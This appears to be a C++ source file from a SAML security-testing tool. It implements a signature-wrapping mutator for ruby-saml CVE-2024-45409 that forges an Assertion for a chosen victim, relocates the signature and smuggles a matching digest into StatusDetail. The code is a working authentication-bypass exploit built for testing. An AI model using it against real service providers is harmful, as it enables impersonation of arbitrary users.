// SPDX-License-Identifier: Apache-2.0
// xsw.digest_smuggled — ruby-saml CVE-2024-45409 (XSW-DIGEST-SMUGGLE): the Response's Signature
// moves into the forged Assertion, which takes the old Response ID, and a copy of the Reference
// whose DigestValue matches the forged content is smuggled into StatusDetail. A verifier that
// reads `//ds:DigestValue` document-wide finds the smuggled digest first; SignedInfo is untouched,
// so its SignatureValue still verifies. xmldsig-core §3.2.1: the digest is SignedInfo's own.
#include "mutators/keys/dsig_math.hpp"
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"
#include "samlt/core/saml_time.hpp"

#include <chrono>

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// The forged Assertion stays valid longer: NotOnOrAfter of Conditions and of the bearer data.
void extend_by_an_hour(xmlNode* assertion) {
  for (auto local : {"Conditions", "SubjectConfirmationData"}) {
    for (xmlNode* node : core::descendants_named(assertion, n::ns_assertion, local)) {
      if (auto at = core::parse_datetime(core::attribute(node, "NotOnOrAfter").value_or(""))) {
        core::set_attribute(node, "NotOnOrAfter", core::format_datetime(*at + std::chrono::hours(1)));
      }
    }
  }
}

}  // namespace

// Params: digest (computed: the forged Assertion's digest | empty: the digest of no bytes, the
// C14N-VOID form), victim.
core::Result<void> xsw_digest_smuggled(Target& target) {
  auto digest = xsw::choice_param(target, "digest", "computed|empty", "computed");
  auto victim = xsw::victim(target);
  if (!digest || !victim) {
    return core::fail(!digest ? digest.error() : victim.error());
  }
  xmlNode* response = xsw::response(target);
  xmlNode* signature = response ? xsw::signature_of(response) : nullptr;
  xmlNode* assertion = xsw::first_assertion(target);
  xmlNode* status = response ? core::child_named(response, n::ns_protocol, "Status") : nullptr;
  if (signature == nullptr || assertion == nullptr || status == nullptr || xsw::signature_of(assertion) != nullptr ||
      core::descendants_named(signature, n::ns_dsig, "Reference").empty()) {
    return core::fail(core::Reason::mutator_not_applicable, "needs a signed Response over an unsigned Assertion");
  }
  std::string old_id = core::attribute(response, "ID").value_or("");
  xmlUnlinkNode(signature);
  xmlNode* issuer = core::child_named(assertion, n::ns_assertion, "Issuer");
  issuer ? static_cast<void>(xmlAddNextSibling(issuer, signature)) : xsw::insert_before(assertion->children, signature);
  core::set_attribute(response, "ID", core::new_saml_id());
  core::set_attribute(assertion, "ID", old_id);
  xsw::write_victim(assertion, *victim);
  extend_by_an_hour(assertion);

  auto value = *digest == "empty" ? core::Result<std::string>(dsig::sha256_base64("")) : xsw::enveloped_digest(assertion);
  if (!value) {
    return core::fail(value.error());
  }
  xmlNode* reference = xmlDocCopyNode(core::descendants_named(signature, n::ns_dsig, "Reference").front(),
                                      target.doc->get(), 1);
  core::set_text(core::child_named(reference, n::ns_dsig, "DigestValue"), *value);
  xmlNode* detail = core::child_named(status, n::ns_protocol, "StatusDetail");
  if (detail == nullptr) {
    detail = core::append_element(status, n::ns_protocol, "samlp", "StatusDetail");
  }
  xsw::append_child(detail, reference);
  return {};
}

}  // namespace samlt::idp::mutators
